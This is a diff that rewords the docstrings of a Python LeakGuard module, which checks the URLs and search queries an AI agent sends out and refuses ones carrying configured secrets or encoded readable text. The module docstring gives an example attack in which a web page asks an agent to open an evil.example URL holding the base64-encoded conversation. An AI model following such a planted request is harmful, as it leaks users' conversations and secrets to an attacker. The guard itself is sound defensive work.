@@ -1,8 +1,8 @@
-"""What must not leave: configured secrets, and text that somebody wrapped up to be carried out in a URL.
+"""Refuses URLs and queries that would leak data: configured secrets, and text encoded into a URL.
 
 A page can ask an agent to open `https://evil.example/?d=<base64 of the conversation>`. The agent sees one more
-link; the guard sees a long run that decodes to readable text. Signatures, ids and session tokens decode to noise
-and pass, so ordinary long URLs are not stopped; very long noise is only noted.
+link; the guard finds a long run of characters that decodes to readable text. Signatures, ids and session tokens decode
+to random bytes and pass, so ordinary long URLs are not refused; a very long one only gets a note.
 """
 
 from __future__ import annotations
@@ -29,7 +29,7 @@ _READABLE = 0.92
 
 
 class LeakGuard:
-    """Looks through everything an agent sends outwards: URLs and search queries."""
+    """Checks everything that an agent sends to the web: URLs and search queries."""
 
     def __init__(self, secrets: Iterable[str] = ()) -> None:
         self._forms = frozenset(form for secret in secrets if len(secret) >= _MIN_SECRET for form in _forms(secret))
